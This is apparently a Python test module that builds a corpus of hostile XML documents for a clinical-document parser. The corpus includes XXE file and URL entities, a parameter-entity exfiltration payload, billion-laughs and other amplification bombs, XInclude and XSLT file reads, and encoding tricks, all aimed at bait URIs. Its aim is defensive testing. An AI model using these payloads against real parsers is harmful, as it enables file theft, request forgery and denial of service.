# SPDX-License-Identifier: EUPL-1.2
"""XML that attacks who reads it: entities, DTDs, inclusions, styles, sizes, encodings, namespaces.

`documents` gives each by name. The ones of OPEN are well formed and harmless once nothing in them is
followed: a reader may take them; the others must be refused.
Source: specs of libxml2's limits; OWASP, XML External Entity Prevention; CVE-2024-45294 (FHIR over XSLT).
"""

from collections.abc import Callable, Iterator
from typing import Final

from carnet.fhir.xml import MAX_MARKUP
from tests.hostile.corpus.bait import Bait

V3: Final = "urn:hl7-org:v3"
HEAD: Final = '<?xml version="1.0" encoding="UTF-8"?>'

Made = Callable[[Bait], bytes]


def root(inside: str = "", before: str = "", attributes: str = "") -> bytes:
    """A ClinicalDocument around something, after something."""
    return (
        f'{HEAD}{before}<ClinicalDocument xmlns="{V3}"{attributes}>{inside}</ClinicalDocument>'
    ).encode()


def doctype(subset: str, use: str = "&x;", outside: str = "") -> bytes:
    """A document with a DTD, and an entity used in a title."""
    declared = f"<!DOCTYPE ClinicalDocument {outside}[{subset}]>"
    return root(f"<title>{use}</title>", declared)


# ------------------------------------------------------------------------------------- entities


def entities(bait: Bait) -> Iterator[tuple[str, bytes]]:
    """DTDs, inside and outside, and what entities bring."""
    yield "internal-entity", doctype('<!ENTITY x "expanded">')
    yield "file-entity", doctype(f'<!ENTITY x SYSTEM "{bait.uri}">')
    yield "file-entity-by-path", doctype(f'<!ENTITY x SYSTEM "{bait.file}">')
    yield "http-entity", doctype(f'<!ENTITY x SYSTEM "{bait.url}/entity">')
    yield "ftp-entity", doctype(f'<!ENTITY x SYSTEM "{bait.url.replace("http", "ftp")}/entity">')
    yield "public-entity", doctype(f'<!ENTITY x PUBLIC "-//W3C//X" "{bait.url}/public">')
    yield (
        "unparsed-entity",
        doctype(f'<!NOTATION n SYSTEM "{bait.url}/n"><!ENTITY x SYSTEM "{bait.uri}" NDATA n>', ""),
    )
    yield (
        "entity-in-attribute",
        root(attributes=' id="&x;"', before='<!DOCTYPE c [<!ENTITY x "y">]>'),
    )
    yield "parameter-entity", doctype(f'<!ENTITY % p SYSTEM "{bait.url}/p.dtd"> %p;')
    yield "parameter-entity-file", doctype(f'<!ENTITY % p SYSTEM "{bait.uri}"> %p;')
    yield (
        "parameter-entity-exfiltration",
        doctype(
            f'<!ENTITY % f SYSTEM "{bait.uri}"><!ENTITY % d SYSTEM "{bait.url}/d.dtd"> %d; %all;'
        ),
    )
    yield "external-subset", root(before=f'<!DOCTYPE ClinicalDocument SYSTEM "{bait.url}/x.dtd">')
    yield "external-subset-file", root(before=f'<!DOCTYPE ClinicalDocument SYSTEM "{bait.uri}">')
    yield (
        "public-subset",
        root(before=f'<!DOCTYPE ClinicalDocument PUBLIC "-//HL7//CDA" "{bait.url}/cda.dtd">'),
    )
    yield "jar-subset", root(before=f'<!DOCTYPE c SYSTEM "jar:{bait.url}/x.jar!/x.dtd">')
    yield (
        "xhtml-subset",
        root(
            before='<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
            '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">'
        ),
    )
    yield "empty-subset", root(before="<!DOCTYPE ClinicalDocument []>")
    yield "bare-doctype", root(before="<!DOCTYPE ClinicalDocument>")
    yield (
        "doctype-after-comments",
        root(before="<!-- a --><?p i?>\n<!-- <!DOCTYPE> --><!DOCTYPE c [<!ENTITY x 'y'>]>"),
    )
    yield "doctype-after-blanks", root(before="\n" * 5000 + "<!DOCTYPE c [<!ENTITY x 'y'>]>")
    yield "doctype-in-lower-case", root(before="<!doctype c [<!ENTITY x 'y'>]>")
    yield (
        "default-attributes",
        doctype(f"<!ATTLIST ClinicalDocument href CDATA '{bait.url}/default'>", ""),
    )
    yield "undefined-entity", root("<title>&undefined;</title>")
    yield "html-entity", root("<title>&nbsp;&eacute;</title>")
    yield "character-reference-of-nothing", root("<title>&#0;</title>")
    yield "character-reference-too-large", root("<title>&#x110000;</title>")
    yield "character-reference-of-a-surrogate", root("<title>&#xD800;</title>")
    yield (
        "catalog",
        root(before=f'<?oasis-xml-catalog catalog="{bait.url}/c.xml"?><!DOCTYPE c SYSTEM "urn:x">'),
    )


# ------------------------------------------------------------------------------------- amplification


def bombs(bait: Bait) -> Iterator[tuple[str, bytes]]:
    """Little to send, much to hold."""
    laughs = '<!ENTITY l0 "ha">' + "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12)
    )
    yield "billion-laughs", doctype(laughs, "&l11;")
    yield (
        "billion-laughs-in-attribute",
        root(attributes=' id="&l11;"', before=f"<!DOCTYPE c [{laughs}]>"),
    )
    parameters = '<!ENTITY % p0 "ha">' + "".join(
        f"<!ENTITY % p{n} '{f'&#37;p{n - 1};' * 10}'>" for n in range(1, 12)
    )
    yield "parameter-laughs", doctype(f"{parameters}<!ENTITY x '%p11;'>")
    yield "quadratic", doctype(f'<!ENTITY x "{"a" * 100_000}">', "&x;" * 2000)
    yield "entities-in-a-ring", doctype('<!ENTITY x "&y;"><!ENTITY y "&x;">')
    yield "nested-deep", root("<component>" * 5000 + "</component>" * 5000)
    yield "nested-very-deep", root("<component>" * 100_000)
    yield "nested-at-the-limit", root("<component>" * 255 + "</component>" * 255)
    yield "nested-past-the-limit", root("<component>" * 256 + "</component>" * 256)
    yield (
        "a-million-attributes",
        root("<id " + " ".join(f'a{n}=""' for n in range(1_000_000)) + "/>"),
    )
    yield "many-attributes", root("<id " + " ".join(f'a{n}=""' for n in range(100_000)) + "/>")
    yield "many-elements", root("<id/>" * 500_000)
    yield "elements-at-the-limit", root("<id/>" * (MAX_MARKUP - 10))
    yield "elements-and-attributes-at-the-limit", root('<id root=""/>' * (MAX_MARKUP - 10))
    yield (
        "many-namespaces",
        root("<id " + " ".join(f'xmlns:n{n}="u"' for n in range(50_000)) + "/>"),
    )
    yield "many-colliding-names", root("".join(f"<a{n:06}/>" for n in range(150_000)))
    yield "long-name", root(f"<{'n' * 200_000}/>")
    yield "long-attribute-name", root(f"<id {'n' * 200_000}=''/>")
    yield "long-attribute", root(f"<id root='{'9' * 11_000_000}'/>")
    yield "long-text", root(f"<title>{'a' * 11_000_000}</title>")
    yield "long-text-whole", root(f"<title>{'a' * 20_000_000}</title>")
    yield "long-comment", root(f"<!--{'-a' * 5_000_000}-->")
    yield "long-instruction", root(f"<?x {'a' * 11_000_000}?>")
    yield "long-cdata", root(f"<title><![CDATA[{'<' * 11_000_000}]]></title>")
    yield "many-cdata", root("<title>" + "<![CDATA[]]>" * 300_000 + "</title>")
    yield "long-namespace", root(f'<x xmlns="{"u" * 1_000_000}"/>')
    yield "long-prolog", root(before="<?p i?>" * 100_000)
    yield "long-reference", root(f"<title>&{'e' * 200_000};</title>")
    yield "many-references", root("<title>" + "&#65;" * 1_000_000 + "</title>")


# ------------------------------------------------------------------------------------- inclusion


def inclusions(bait: Bait) -> Iterator[tuple[str, bytes]]:
    """What would be fetched by a reader who follows."""
    xi = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    yield "xinclude-file", root(f'<xi:include {xi} parse="text" href="{bait.uri}"/>')
    yield "xinclude-http", root(f'<xi:include {xi} href="{bait.url}/xinclude"/>')
    yield (
        "xinclude-fallback",
        root(
            f'<xi:include {xi} href="urn:no"><xi:fallback><xi:include href="{bait.uri}"/>'
            "</xi:fallback></xi:include>"
        ),
    )
    xslt = 'xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"'
    yield (
        "xslt-document",
        (
            f"<xsl:stylesheet {xslt}><xsl:template match='/'><xsl:copy-of "
            f"select=\"document('{bait.uri}')\"/></xsl:template></xsl:stylesheet>"
        ).encode(),
    )
    yield (
        "xslt-self-presenting",
        (
            f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><xsl:stylesheet {xslt} '
            f'id="s"><xsl:import href="{bait.url}/import.xsl"/><xsl:include href="{bait.uri}"/>'
            f'<xsl:param name="d"><ClinicalDocument xmlns="{V3}"/></xsl:param></xsl:stylesheet>'
        ).encode(),
    )
    yield (
        "stylesheet-http",
        root(before=f'<?xml-stylesheet type="text/xsl" href="{bait.url}/style.xsl"?>'),
    )
    yield "stylesheet-file", root(before=f'<?xml-stylesheet type="text/xsl" href="{bait.uri}"?>')
    yield (
        "stylesheet-script",
        root(before='<?xml-stylesheet type="text/css" href="javascript:window.__canary()"?>'),
    )
    xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    yield "schema-location", root(attributes=f' {xsi} xsi:schemaLocation="{V3} {bait.url}/CDA.xsd"')
    yield (
        "schema-location-file",
        root(attributes=f' {xsi} xsi:noNamespaceSchemaLocation="{bait.uri}"'),
    )
    yield (
        "xml-base",
        root("<text><renderMultiMedia/></text>", attributes=f' xml:base="{bait.url}/"'),
    )
    yield (
        "reference-to-a-file",
        root(
            f'<component><nonXMLBody><text mediaType="text/plain"><reference value="{bait.uri}"/>'
            "</text></nonXMLBody></component>"
        ),
    )
    yield (
        "reference-to-a-server",
        root(
            '<component><nonXMLBody><text mediaType="application/pdf">'
            f'<reference value="{bait.url}/body.pdf"/></text></nonXMLBody></component>'
        ),
    )
    yield (
        "soap-with-entities",
        (
            f'<!DOCTYPE e [<!ENTITY x SYSTEM "{bait.uri}">]><e:Envelope '
            'xmlns:e="http://schemas.xmlsoap.org/soap/envelope/">&x;</e:Envelope>'
        ).encode(),
    )
    yield (
        "svg-with-entity",
        (
            f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{bait.uri}">]><svg xmlns="http://www.w3.org/2000/svg">'
            f'<image href="{bait.url}/svg"/><text>&x;</text></svg>'
        ).encode(),
    )


# ------------------------------------------------------------------------------------- encodings


def encodings(bait: Bait) -> Iterator[tuple[str, bytes]]:
    """A DOCTYPE in a dress, bytes that are no text, declarations that lie."""
    attack = (
        f'<!DOCTYPE c [<!ENTITY x SYSTEM "{bait.uri}">]>'
        f'<ClinicalDocument xmlns="{V3}"><title>&x;</title></ClinicalDocument>'
    )

    def declared(name: str, codec: str, text: str = attack) -> bytes:
        return f'<?xml version="1.0" encoding="{name}"?>{text}'.encode(codec)

    yield (
        "utf-7",
        f'<?xml version="1.0" encoding="UTF-7"?>{attack.encode("utf-7").decode()}'.encode(),
    )
    yield "utf-16", declared("UTF-16", "utf-16")
    yield "utf-16-le-unmarked", declared("UTF-16", "utf-16-le")
    yield "utf-16-be-unmarked", declared("UTF-16", "utf-16-be")
    yield "utf-16-said-but-not", declared("UTF-16", "utf-8")
    yield "utf-8-said-but-16", declared("UTF-8", "utf-16")
    yield "utf-32", declared("UTF-32", "utf-32")
    yield "utf-32-unmarked", declared("UTF-32", "utf-32-le")
    yield "ebcdic", declared("EBCDIC-CP-FR", "cp500")
    yield "ebcdic-declared", declared("IBM037", "utf-8")
    yield "iso-2022-jp", declared("ISO-2022-JP", "iso2022_jp")
    yield "hz", declared("HZ-GB-2312", "hz")
    yield "shift-jis", declared("Shift_JIS", "shift_jis")
    yield "gb18030", declared("GB18030", "gb18030")
    yield "big5", declared("Big5", "big5")
    yield "encoding-unknown", declared("x-nothing", "utf-8")
    yield "encoding-of-python", declared("unicode_escape", "utf-8")
    yield "encoding-of-zip", declared("zip", "utf-8")
    yield "encoding-idna", declared("idna", "utf-8")
    yield "encoding-long", declared("u" * 100_000, "utf-8")
    yield "encoding-twice", b'<?xml version="1.0" encoding="UTF-8"?>' + declared("UTF-16", "utf-8")
    yield "latin-1-with-doctype", declared("ISO-8859-1", "latin-1")
    yield "bom-then-declared-16", b"\xef\xbb\xbf" + declared("UTF-16", "utf-8")
    yield "two-boms", b"\xef\xbb\xbf\xef\xbb\xbf" + root()
    whole = root("<title>é</title>")
    yield "nul", whole.replace(b"<title>", b"<title>\0")
    yield "nul-in-the-name", whole.replace(b"<title>", b"<ti\0tle>")
    yield "nul-after-the-end", whole + b"\0" * 1000
    yield "control-characters", whole.replace(b"<title>", b"<title>\x01\x08\x1b")
    yield "utf-8-cut", whole[: whole.index(b"\xa9")]
    yield "utf-8-overlong", whole.replace("é".encode(), b"\xc0\xbc!DOCTYPE\xc0\xbe")
    yield "utf-8-surrogate", whole.replace("é".encode(), b"\xed\xa0\x80")
    yield "utf-8-past-the-end", whole.replace("é".encode(), b"\xf4\x90\x80\x80")
    yield "latin-1-undeclared", whole.replace("é".encode(), b"\xe9")
    yield "version-1.1", b'<?xml version="1.1"?>' + root()[len(HEAD) :].replace(b"><", b">&#1;<")
    yield "version-9", b'<?xml version="9.0"?>' + root("<id/>")[len(HEAD) :]
    yield "declaration-late", b"\n" + root()
    yield "declaration-cut", b'<?xml version="1.0" encoding="'
    yield "nothing", b""
    yield "blanks", b" \n" * 100
    yield "only-a-declaration", HEAD.encode()
    yield "only-a-comment", b"<!-- " + b"-" * 1000
    yield "only-brackets", b"<" * 100_000
    yield "noise", bytes(range(256)) * 64
    yield "json", b'{"resourceType": "Patient"}'
    yield "gzip", b"\x1f\x8b\x08" + bytes(64)


# ------------------------------------------------------------------------------------- structure


def structures(bait: Bait) -> Iterator[tuple[str, bytes]]:
    """Bad form, and names that lie about what they name."""
    yield "two-roots", root() + root()[len(HEAD) :]
    yield "not-closed", root()[:-20]
    yield "closed-by-another", root("<a><b></a></b>")
    yield "attribute-twice", root('<id root="1" root="2"/>')
    yield (
        "attribute-twice-by-namespace",
        root(f'<id xmlns:a="u" xmlns:b="u" a:root="1" b:root="2"/>{bait.url[:0]}'),
    )
    yield "prefix-undeclared", root("<sdtc:id/>")
    yield "prefix-xmlns", root('<id xmlns:xmlns="urn:x"/>')
    yield "prefix-xml-elsewhere", root('<id xmlns:xml="urn:x"/>')
    yield "namespace-undone", root('<id xmlns:a=""/>')
    yield (
        "namespace-of-script",
        root(
            '<text><x:script xmlns:x="http://www.w3.org/1999/xhtml">window.__canary()</x:script></text>'
        ),
    )
    yield "namespace-of-another", root().replace(V3.encode(), b"urn:hl7-org:v2")
    yield "namespace-none", b"<ClinicalDocument/>"
    yield "namespace-default-changed", root('<component xmlns="urn:other"><section/></component>')
    yield "document-in-document", root(root()[len(HEAD) :].decode())
    yield "two-documents", b"<x>" + root()[len(HEAD) :] * 2 + b"</x>"
    yield "bracket-in-attribute", root('<id root="<"/>')
    yield "ampersand-alone", root("<title>a & b</title>")
    yield "cdata-end-in-text", root("<title>a ]]> b</title>")
    yield "comment-in-comment", root("<!-- a -- b -->")
    yield "instruction-xml-inside", root("<?xml version='1.0'?>")
    yield "text-after-the-root", root() + b"tail"
    yield "colons-in-names", root("<a:b:c/>")
    yield "empty-name", root("< />")


FAMILIES: Final = (entities, bombs, inclusions, encodings, structures)

# Well formed, and nothing once nothing is followed: the door may take them.
OPEN: Final = frozenset(
    "nested-at-the-limit elements-at-the-limit"
    " elements-and-attributes-at-the-limit many-attributes many-namespaces many-colliding-names"
    " long-prolog many-references long-namespace"
    " xinclude-file xinclude-http xinclude-fallback xslt-document xslt-self-presenting"
    " stylesheet-http stylesheet-file stylesheet-script schema-location schema-location-file xml-base"
    " reference-to-a-file reference-to-a-server namespace-of-script namespace-of-another"
    " namespace-none namespace-default-changed document-in-document two-documents two-boms"
    " long-comment".split()
)


def documents(bait: Bait) -> dict[str, bytes]:
    """Every one, by name; the same bytes for the same bait."""
    made: dict[str, bytes] = {}
    for family in FAMILIES:
        for name, content in family(bait):
            assert name not in made, name
            made[name] = content
    return made
